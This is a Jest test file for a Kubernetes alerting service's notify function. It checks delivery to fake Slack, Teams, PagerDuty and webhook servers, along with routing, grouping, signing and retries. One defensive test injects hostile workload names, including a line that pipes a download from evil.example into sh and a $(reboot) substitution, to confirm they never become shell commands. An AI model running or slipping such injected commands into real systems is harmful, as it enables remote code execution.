/** notify over HTTP, with local servers standing in for Slack, Teams, PagerDuty and a webhook. */
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { createHmac } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import notify from '../../functions/notify/index.js';
import { startServer, type RunningServer } from '../../functions/_kit/index.js';

interface Hit {
  headers: IncomingHttpHeaders;
  body: Record<string, unknown>;
  raw: string;
  at: number;
}
interface FakeSink {
  url: string;
  hits: Hit[];
  /** What the next requests get: status, optional headers, optional delay. */
  answer: { status: number; headers?: Record<string, string>; delayMs?: number };
  close(): Promise<void>;
}

async function fakeSink(): Promise<FakeSink> {
  const s: Partial<FakeSink> & { hits: Hit[] } = { hits: [], answer: { status: 200 } };
  const server: Server = createServer((req, res) => {
    let raw = '';
    req.on('data', (d: Buffer) => (raw += d.toString()));
    req.on('end', () => {
      s.hits.push({ headers: req.headers, body: JSON.parse(raw) as Record<string, unknown>, raw, at: Date.now() });
      const { status, headers, delayMs } = s.answer!;
      setTimeout(() => res.writeHead(status, headers).end(status < 300 ? 'ok' : 'nope'), delayMs ?? 0);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  s.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook/T0KEN-in-url`;
  s.close = () =>
    new Promise((r) => {
      server.closeAllConnections();
      server.close(() => r());
    });
  return s as FakeSink;
}

const SECRET = 'whsec-test-secret';
const ROUTING_KEY = 'R0UTINGKEY0000000000000000000000';
let slack: FakeSink, teams: FakeSink, pager: FakeSink, hook: FakeSink;
let server: RunningServer;
let clock = new Date('2026-11-22T10:00:00Z');
const logs: string[] = [];

beforeAll(async () => {
  [slack, teams, pager, hook] = await Promise.all([fakeSink(), fakeSink(), fakeSink(), fakeSink()]);
  const dir = mkdtempSync(join(tmpdir(), 'reflex-notify-'));
  writeFileSync(
    join(dir, 'routes.yaml'),
    `defaults: { groupWindowSeconds: 600, timeoutMs: 1000 }
sinks:
  - { name: slack, type: slack, urlEnv: SLACK_URL }
  - { name: teams, type: teams, urlEnv: TEAMS_URL }
  - { name: pager, type: pagerduty, urlEnv: PD_URL, secretEnv: PD_KEY }
  - { name: audit, type: webhook, urlEnv: HOOK_URL, secretEnv: HOOK_SECRET }
  - { name: later, type: slack, urlEnv: NOT_SET_YET }
routes:
  - { name: everything audited, sinks: [audit], continue: true }
  - { name: page on critical, match: { severity: [critical] }, sinks: [pager, slack] }
  - { name: shop to teams, match: { namespace: [shop] }, sinks: [teams, later] }
  - { name: other warnings, match: { severity: [warning] }, sinks: [slack] }
  - { name: what Reflex could not do, on: action, match: { outcome: [escalated, failed] }, sinks: [slack, pager] }
`,
  );
  server = await startServer(notify, {
    env: {
      PORT: '0',
      REFLEX_HOST: '127.0.0.1',
      REFLEX_NOTIFY_ROUTES: join(dir, 'routes.yaml'),
      SLACK_URL: slack.url,
      TEAMS_URL: teams.url,
      PD_URL: pager.url,
      PD_KEY: ROUTING_KEY,
      HOOK_URL: hook.url,
      HOOK_SECRET: SECRET,
    },
    now: () => clock,
    logSink: (l) => logs.push(l),
  });
});
afterAll(async () => {
  await server.shutdown();
  await Promise.all([slack, teams, pager, hook].map((s) => s.close()));
});
afterEach(() => {
  for (const s of [slack, teams, pager, hook]) {
    s.hits.length = 0;
    s.answer = { status: 200 };
  }
});

let n = 0;
function signal(cls: string, severity: string, target: { kind: string; namespace: string; name: string }, key: string): Promise<Response> {
  n++;
  const data = {
    class: cls,
    severity,
    reason: 'BackOff',
    message: 'Back-off restarting failed container web in pod web-7d9c8b5f4-x2x7q_shop(0b9e)',
    rule: 'crashloop-backoff',
    target: { apiVersion: 'apps/v1', ...target, resolvedBy: 'ownerReferences' },
    involved: { apiVersion: 'v1', kind: 'Pod', namespace: target.namespace, name: `${target.name}-7d9c8b5f4-x2x7q` },
    container: 'web',
    occurrences: 3,
    firstSeen: '2026-11-22T09:58:00.000Z',
    lastSeen: '2026-11-22T10:00:00.000Z',
    detectedBy: 'classify',
    key,
  };
  return fetch(server.url, {
    method: 'POST',
    headers: {
      'ce-specversion': '1.0',
      'ce-id': `sig-${n}`,
      'ce-source': '/reflex/classify',
      'ce-type': `dev.reflex.signal.${cls}`,
      'ce-reflexclass': cls,
      'ce-severity': severity,
      'content-type': 'application/json',
    },
    body: JSON.stringify(data),
  });
}

describe('payloads, as each service documents them', () => {
  it('a critical signal reaches audit, PagerDuty and Slack, each in its own format (and Teams by its own route)', async () => {
    const res = await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'shop', name: 'web' }, '00000000000000a1');
    expect(res.status).toBe(202);
    // Slack Block Kit: fallback text plus header/section/context blocks.
    const s = slack.hits[0]!.body as { text: string; blocks: { type: string; text?: { type: string; text: string } }[] };
    expect(s.text).toMatch(/^\[critical\] crashloop on Deployment shop\/web: Back-off/);
    // header; what/where; why; Reflex; look closer; silence it; context.
    expect(s.blocks.map((b) => b.type)).toEqual(['header', 'section', 'section', 'section', 'section', 'section', 'context']);
    expect(s.blocks[0]!.text).toMatchObject({ type: 'plain_text' });
    expect(JSON.stringify(s.blocks)).toContain('kubectl describe deployment web -n shop');
    expect(JSON.stringify(s.blocks)).toContain('kubectl logs -n shop web-7d9c8b5f4-x2x7q -c web --previous');
    // First match wins: the critical route stopped before the shop route.
    expect(teams.hits).toHaveLength(0);
    await signal('crashloop', 'warning', { kind: 'Deployment', namespace: 'shop', name: 'web2' }, '00000000000000a3');
    // Teams: a message with one Adaptive Card attachment.
    const t = teams.hits[0]!.body as {
      type: string;
      attachments: { contentType: string; content: { type: string; version: string; body: unknown[] } }[];
    };
    expect(t.type).toBe('message');
    expect(t.attachments[0]).toMatchObject({
      contentType: 'application/vnd.microsoft.card.adaptive',
      content: { type: 'AdaptiveCard', version: '1.4' },
    });
    // PagerDuty Events API v2: routing key, trigger, a stable dedup key, a valid severity.
    expect(pager.hits[0]!.body).toMatchObject({
      routing_key: ROUTING_KEY,
      event_action: 'trigger',
      dedup_key: 'reflex-00000000000000a1',
      payload: { severity: 'critical', source: 'shop/web', component: 'Deployment', group: 'shop', class: 'crashloop' },
    });
    expect(String((pager.hits[0]!.body['payload'] as { summary: string }).summary).length).toBeLessThanOrEqual(1024);
  });

  it('signs the webhook so a receiver can verify it (HMAC-SHA256 over "<timestamp>.<body>")', async () => {
    await signal('evicted', 'info', { kind: 'Deployment', namespace: 'ops', name: 'batch' }, '00000000000000a2');
    const hit = hook.hits[0]!;
    const ts = String(hit.headers['x-reflex-timestamp']);
    expect(ts).toBe(String(Math.floor(clock.getTime() / 1000)));
    const expected = 'v1=' + createHmac('sha256', SECRET).update(`${ts}.${hit.raw}`).digest('hex');
    expect(hit.headers['x-reflex-signature']).toBe(expected);
    expect(hit.body).toMatchObject({ title: 'evicted on Deployment ops/batch', data: { key: '00000000000000a2' } });
  });
});

describe('routing', () => {
  it('first match wins unless the route continues; namespaces and severities select', async () => {
    await signal('imagepull', 'warning', { kind: 'Deployment', namespace: 'ops', name: 'api' }, '00000000000000b1');
    expect([slack.hits.length, teams.hits.length, pager.hits.length, hook.hits.length]).toEqual([1, 0, 0, 1]);
  });

  it('a sink whose URL variable is unset is skipped and said so, never a crash', async () => {
    const res = await signal('imagepull', 'info', { kind: 'Deployment', namespace: 'shop', name: 'cart' }, '00000000000000b2');
    expect(res.status).toBe(202);
    expect(teams.hits).toHaveLength(1);
    expect(logs.some((l) => l.includes('sink is disabled') && l.includes('"later"'))).toBe(true);
  });
});

describe('action outcomes', () => {
  function action(outcome: string, verb: string, key: string): Promise<Response> {
    n++;
    const data = {
      verb,
      outcome,
      reason:
        outcome === 'escalated'
          ? 'an image that cannot be pulled needs a person: fix the image reference or the pull secret'
          : 'the crash loop began with revision 2',
      target: { kind: 'Deployment', namespace: 'shop', name: 'api' },
      signal: { id: `sig-${n}`, type: 'dev.reflex.signal.imagepull', key, class: 'imagepull' },
      steps: [],
      dryRun: false,
    };
    return fetch(server.url, {
      method: 'POST',
      headers: {
        'ce-specversion': '1.0',
        'ce-id': `act-${n}`,
        'ce-source': '/reflex/recover',
        'ce-type': `dev.reflex.action.${verb}`,
        'ce-time': clock.toISOString(),
        'content-type': 'application/json',
      },
      body: JSON.stringify(data),
    });
  }

  it('an escalation reaches the sinks its action route names, saying what Reflex did not do', async () => {
    expect((await action('escalated', 'escalated', '00000000000000e1')).status).toBe(202);
    expect([slack.hits.length, pager.hits.length, hook.hits.length, teams.hits.length]).toEqual([1, 1, 0, 0]);
    expect(slack.hits[0]!.raw).toContain('Reflex escalated Deployment shop/api: escalated');
    expect(slack.hits[0]!.raw).toContain('Nothing: a person must decide.');
    expect(pager.hits[0]!.body).toMatchObject({
      dedup_key: 'reflex-00000000000000e1:escalated:escalated',
      payload: { severity: 'warning', class: 'imagepull' },
    });
  });

  it('an applied action matches no action route here, and signal routes never take actions', async () => {
    expect((await action('applied', 'rolledback', '00000000000000e2')).status).toBe(202);
    expect([slack.hits.length, pager.hits.length, hook.hits.length, teams.hits.length]).toEqual([0, 0, 0, 0]);
  });
});

describe('when a problem is over', () => {
  function resolved(key: string, id: string): Promise<Response> {
    return fetch(server.url, {
      method: 'POST',
      headers: {
        'ce-specversion': '1.0',
        'ce-id': id,
        'ce-source': '/reflex/sweep',
        'ce-type': 'dev.reflex.resolved',
        'ce-reflexclass': 'crashloop',
        'content-type': 'application/json',
      },
      body: JSON.stringify({
        key,
        class: 'crashloop',
        severity: 'critical',
        reason: 'CrashLoopBackOff',
        target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'shop', name: 'web' },
        firstSeen: '2026-11-22T10:00:00Z',
        lastSeen: '2026-11-22T10:20:00Z',
        resolvedAt: '2026-11-22T10:30:00Z',
      }),
    });
  }

  it('the sinks that heard of it get a follow-up; PagerDuty resolves the incident with the same dedup key', async () => {
    const key = '00000000000000f1';
    expect((await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'shop', name: 'web' }, key)).status).toBe(202);
    const triggered = pager.hits[0]!.body as { event_action: string; dedup_key: string };
    expect(triggered.event_action).toBe('trigger');
    expect(teams.hits).toHaveLength(0);
    for (const s of [slack, teams, pager, hook]) s.hits.length = 0;

    // Inside the problem's grouping window: the follow-up is a message of its own, not grouped away.
    expect((await resolved(key, 'res-1')).status).toBe(202);
    expect(pager.hits.map((h) => h.body)).toEqual([{ routing_key: ROUTING_KEY, event_action: 'resolve', dedup_key: triggered.dedup_key }]);
    const s = slack.hits[0]!.body as { text: string; blocks: { type: string; text?: { text: string } }[] };
    expect(s.blocks[0]!.text!.text).toBe(':white_check_mark: Resolved: crashloop on Deployment shop/web');
    expect(JSON.stringify(s.blocks)).toMatch(/is over: first found 2026-11-22T10:00:00Z, last found 2026-11-22T10:20:00Z \(20m\)/);
    // Routed as the problem was: the route that paged it stops before Teams, for the follow-up too.
    expect(teams.hits).toHaveLength(0);
    expect((hook.hits[0]!.body as { action: string }).action).toBe('resolve');

    // The same resolution delivered again (at-least-once): nobody is told twice.
    for (const x of [slack, teams, pager, hook]) x.hits.length = 0;
    expect((await resolved(key, 'res-1')).status).toBe(202);
    expect([slack, teams, pager, hook].map((x) => x.hits.length)).toEqual([0, 0, 0, 0]);
  });
});

describe('message templates', () => {
  it("a sink's title template replaces the default title; cluster text is escaped for Slack's mrkdwn", async () => {
    const own = await fakeSink();
    const dir = mkdtempSync(join(tmpdir(), 'reflex-notify-tpl-'));
    writeFileSync(
      join(dir, 'routes.yaml'),
      `sinks:
  - { name: ops, type: slack, urlEnv: OPS_URL, title: "[{{severity}}] {{class}} in {{namespace}}: {{kind}} {{ name }}" }
routes:
  - { sinks: [ops] }
`,
    );
    const tpl = await startServer(notify, {
      env: { PORT: '0', REFLEX_HOST: '127.0.0.1', REFLEX_NOTIFY_ROUTES: join(dir, 'routes.yaml'), OPS_URL: own.url },
      logSink: () => {},
    });
    try {
      const res = await fetch(tpl.url, {
        method: 'POST',
        headers: {
          'ce-specversion': '1.0',
          'ce-id': 'tpl-1',
          'ce-source': '/reflex/classify',
          'ce-type': 'dev.reflex.signal.imagepull',
          'content-type': 'application/json',
        },
        body: JSON.stringify({
          class: 'imagepull',
          severity: 'warning',
          reason: 'Failed',
          message: 'Failed to pull image "registry.example/web:<none>": not found & denied',
          target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'shop', name: 'web', resolvedBy: 'ownerReferences' },
          involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'shop', name: 'web-7d9c8b5f4-x2x7q' },
          occurrences: 1,
          firstSeen: '2026-11-22T10:00:00.000Z',
          lastSeen: '2026-11-22T10:00:00.000Z',
          detectedBy: 'classify',
          key: '00000000000000c1',
        }),
      });
      expect(res.status).toBe(202);
      const body = own.hits[0]!.body as { text: string; blocks: { text?: { text: string } }[] };
      expect(body.blocks[0]!.text!.text).toBe(':warning: [warning] imagepull in shop: Deployment web');
      expect(body.text).toContain('registry.example/web:&lt;none&gt;": not found &amp; denied');
    } finally {
      await tpl.shutdown();
      await own.close();
    }
  });

  it('an unknown placeholder stops start-up, naming the file, the sink and the known names', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'reflex-notify-tpl-'));
    const file = join(dir, 'routes.yaml');
    writeFileSync(
      file,
      'sinks:\n  - { name: ops, type: slack, urlEnv: UNSET_URL, title: "{{clas}} on {{name}}" }\nroutes:\n  - { sinks: [ops] }\n',
    );
    await expect(startServer(notify, { env: { PORT: '0', REFLEX_NOTIFY_ROUTES: file }, logSink: () => {} })).rejects.toThrow(
      /routes\.yaml: \/sinks\/0\/title.*unknown placeholder \{\{clas\}\}; known: class, severity/,
    );
  });
});

describe('grouping', () => {
  it('a burst of 200 signals about one workload is one message per sink, and the next window counts the rest', async () => {
    const target = { kind: 'Deployment', namespace: 'shop', name: 'checkout' };
    const statuses = await Promise.all(
      Array.from({ length: 200 }, () => signal('crashloop', 'critical', target, '00000000000000c1').then((r) => r.status)),
    );
    expect(new Set(statuses)).toEqual(new Set([202]));
    expect([slack.hits.length, teams.hits.length, pager.hits.length, hook.hits.length]).toEqual([1, 0, 1, 1]);
    clock = new Date(clock.getTime() + 601_000);
    await signal('crashloop', 'critical', target, '00000000000000c1');
    expect(slack.hits).toHaveLength(2);
    expect(slack.hits[1]!.raw).toContain('199 more since the last notice');
  });
});

/** A signal as JSON text: `edit` changes the data first; "DEEP" in it becomes `depth` nested arrays. */
function rawSignal(key: string, edit: (d: Record<string, unknown>) => Record<string, unknown>, depth = 0): Promise<Response> {
  n++;
  const data = edit({
    class: 'crashloop',
    severity: 'warning',
    reason: 'BackOff',
    message: 'Back-off restarting failed container',
    target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'ops', name: `w${n}`, resolvedBy: 'ownerReferences' },
    involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'ops', name: `w${n}-7d9c8b5f4-x2x7q` },
    container: 'web',
    occurrences: 3,
    firstSeen: '2026-11-22T09:58:00.000Z',
    lastSeen: '2026-11-22T10:00:00.000Z',
    detectedBy: 'classify',
    key,
  });
  return fetch(server.url, {
    method: 'POST',
    headers: {
      'ce-specversion': '1.0',
      'ce-id': `raw-${n}`,
      'ce-source': '/reflex/classify',
      'ce-type': `dev.reflex.signal.${String(data['class'])}`,
      'content-type': 'application/json',
    },
    body: JSON.stringify(data).replace('"DEEP"', '['.repeat(depth) + ']'.repeat(depth)),
  });
}

describe('what the cluster wrote cannot hurt the reader or the sink (issue 15)', () => {
  it('a hostile pod, namespace or container name never becomes a shell command', async () => {
    const hostile = 'x; curl https://evil.example/p | sh';
    const res = await rawSignal('00000000000000e1', (d) => ({
      ...d,
      involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'ops', name: `web-1$(reboot)` },
      container: `w'; ${hostile}; '`,
      target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'ops', name: hostile, resolvedBy: 'ownerReferences' },
    }));
    expect(res.status).toBe(202);
    const hit = slack.hits[0]!.raw;
    const kubectl = (hook.hits[0]!.body as { kubectl: string[] }).kubectl;
    expect(kubectl.length).toBeGreaterThan(0);
    for (const line of kubectl) {
      expect(line).toMatch(/^# /);
      expect(line).not.toContain('curl');
      expect(line).not.toContain('reboot');
    }
    expect(hit).not.toMatch(/kubectl [^`]*curl/);
  });

  it('4,000 and 100,000 levels of evidence reach the webhook cut to a bounded depth, not a 500', async () => {
    for (const [i, depth] of [4000, 100_000].entries()) {
      const res = await rawSignal(`00000000000000f${i}`, (d) => ({ ...d, evidence: { api: 'Pod', object: { spec: 'DEEP' } } }), depth);
      expect(res.status).toBe(202);
      const raw = hook.hits.at(-1)!.raw;
      expect(raw).toContain('deeper than 64 levels');
      expect(raw.length).toBeLessThan(8 * 1024);
    }
  });

  it('a sink that redirects is a permanent failure: the signed body and the routing key never follow the Location', async () => {
    const elsewhere = await fakeSink();
    try {
      for (const s of [pager, hook, slack]) s.answer = { status: 307, headers: { location: elsewhere.url } };
      const res = await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'ops', name: 'r1' }, '00000000000000e2');
      // Not retried: another delivery would be redirected the same way.
      expect(res.status).toBe(202);
      expect([pager.hits.length, hook.hits.length, slack.hits.length]).toEqual([1, 1, 1]);
      expect(elsewhere.hits).toHaveLength(0);
      expect(logs.some((l) => l.includes('sink refused the notification') && l.includes('"status":307') && l.includes('redirect'))).toBe(
        true,
      );
      await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'ops', name: 'r1' }, '00000000000000e2');
      expect([pager.hits.length, elsewhere.hits.length]).toEqual([1, 0]);
    } finally {
      await elsewhere.close();
    }
  });
});

describe('delivery', () => {
  it('a sink 5xx is a 503 for the Broker; the retry goes only to the sink that still needs it', async () => {
    slack.answer = { status: 502 };
    const first = await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'ops', name: 'd1' }, '00000000000000d1');
    expect(first.status).toBe(503);
    expect([slack.hits.length, pager.hits.length, hook.hits.length]).toEqual([1, 1, 1]);
    slack.answer = { status: 200 };
    const retry = await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'ops', name: 'd1' }, '00000000000000d1');
    expect(retry.status).toBe(202);
    expect([slack.hits.length, pager.hits.length, hook.hits.length]).toEqual([2, 1, 1]);
  });

  it('a 429 with Retry-After is passed on to the Broker', async () => {
    pager.answer = { status: 429, headers: { 'retry-after': '7' } };
    const res = await signal('nodenotready', 'critical', { kind: 'Node', namespace: '', name: 'node-9' }, '00000000000000d2');
    expect(res.status).toBe(503);
    expect(res.headers.get('retry-after')).toBe('7');
  });

  it('a permanent 4xx is recorded and not retried', async () => {
    slack.answer = { status: 400 };
    const res = await signal('imagepull', 'warning', { kind: 'Deployment', namespace: 'ops', name: 'd3' }, '00000000000000d3');
    expect(res.status).toBe(202);
    await signal('imagepull', 'warning', { kind: 'Deployment', namespace: 'ops', name: 'd3' }, '00000000000000d3');
    expect(slack.hits).toHaveLength(1);
    expect(logs.some((l) => l.includes('sink refused the notification') && l.includes('"status":400'))).toBe(true);
  });

  it('one slow sink does not hold up the others, and a timeout is transient', async () => {
    slack.answer = { status: 200, delayMs: 1500 };
    const started = Date.now();
    const res = await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'ops', name: 'd4' }, '00000000000000d4');
    expect(res.status).toBe(503);
    // PagerDuty and the webhook were reached at once, not after Slack's 1.5 s.
    expect(pager.hits[0]!.at - started).toBeLessThan(500);
    expect(hook.hits[0]!.at - started).toBeLessThan(500);
  });

  it('never logs a sink URL or secret', () => {
    const all = logs.join('\n');
    for (const secret of ['T0KEN-in-url', SECRET, ROUTING_KEY]) expect(all).not.toContain(secret);
  });
});

describe('enriched signals (enrich -> notify)', () => {
  const example = (
    JSON.parse(readFileSync(join(process.cwd(), 'schemas', 'dev.reflex.enriched.json'), 'utf8')) as { examples: [Record<string, unknown>] }
  ).examples[0];
  /** enrich's example, about a workload of its own in ops (so it goes to the audit webhook and Slack), as `type`. */
  function post(
    type: string,
    key: string,
    headers: Record<string, string> = {},
    edit: (d: Record<string, unknown>) => Record<string, unknown> = (d) => d,
  ): Promise<Response> {
    n++;
    const data = edit({
      ...example,
      key,
      target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'ops', name: `enriched-${key}`, resolvedBy: 'ownerReferences' },
      involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'ops', name: 'web-7d9c8b5f4-x2x7q' },
    });
    return fetch(server.url, {
      method: 'POST',
      headers: {
        'ce-specversion': '1.0',
        'ce-id': `enriched-${n}`,
        'ce-source': '/reflex/enrich',
        'ce-type': type,
        'content-type': 'application/json',
        ...headers,
      },
      body: JSON.stringify(data),
    });
  }
  interface Evidence {
    summary: string;
    termination: string[];
    logs: { label: string; lines: string[] }[];
    events: string[];
    rollout: string[];
  }

  it('the webhook gets the evidence (previous log, exit code, Events, rollout) and Slack the log in a code block', async () => {
    expect((await post('dev.reflex.enriched.crashloop', '00000000000000a9')).status).toBe(202);
    const body = hook.hits[0]!.body as { evidence: Evidence; data: { enrichment: unknown } };
    expect(body.evidence.logs[0]).toMatchObject({
      label: 'previous log of container web (last 3 lines, redacted)',
      lines: expect.arrayContaining(['panic: DATABASE_URL is not set']),
    });
    expect(body.evidence.termination).toEqual(['web: exit code 1 (Error), finished 10:03:52Z, 5 restarts']);
    expect(body.evidence.events[0]).toMatch(/^Warning BackOff ×5 on Pod web-7d9c8b5f4-x2x7q/);
    expect(body.evidence.rollout).toEqual(
      expect.arrayContaining(['web: image registry.example/web:2.4.0 -> 2.5.0', 'web: env removed: DATABASE_URL']),
    );
    expect(body.data.enrichment).toEqual(example['enrichment']);
    const texts = (slack.hits[0]!.body as { blocks: { text?: { text: string } }[] }).blocks.map((b) => b.text?.text ?? '');
    expect(texts).toContain(
      '*previous log of container web (last 3 lines, redacted)*\n```2026-11-22T10:03:51Z starting web 2.5.0\n' +
        '2026-11-22T10:03:52Z connecting with Authorization: [REDACTED:authorization]\npanic: DATABASE_URL is not set```',
    );
  });

  it("enrich's dead letter (the raw signal with Knative's error extensions) says the evidence is unavailable; the enriched copy then groups with it", async () => {
    const key = '00000000000000aa';
    const res = await post(
      'dev.reflex.signal.crashloop',
      key,
      {
        'ce-knativeerrordest': 'http://enrich.reflex.svc.cluster.local',
        'ce-knativeerrorcode': '503',
        'ce-knativeerrordata': Buffer.from(
          '{"title":"Service unavailable","status":503,"detail":"the API server did not answer"}',
        ).toString('base64'),
      },
      ({ enrichment: _, ...raw }) => raw,
    );
    expect(res.status).toBe(202);
    const said = 'enrichment unavailable (enrich answered 503: the API server did not answer)';
    expect((hook.hits[0]!.body as { evidence: Evidence }).evidence.summary).toBe(said);
    expect(slack.hits[0]!.raw).toContain(`*Evidence*\\n${said}`);
    // The same problem, enriched after all (a Broker retry of enrich): one message per window, not two.
    expect((await post('dev.reflex.enriched.crashloop', key)).status).toBe(202);
    expect([slack.hits.length, hook.hits.length]).toEqual([1, 1]);
  });

  it('a raw signal carrying an enrichment of its own shows no evidence', async () => {
    expect((await post('dev.reflex.signal.crashloop', '00000000000000ab')).status).toBe(202);
    const body = hook.hits[0]!.body as { evidence?: unknown; data: Record<string, unknown> };
    expect(body).not.toHaveProperty('evidence');
    expect(body.data).not.toHaveProperty('enrichment');
    expect(slack.hits[0]!.raw).not.toContain('DATABASE_URL');
  });
});
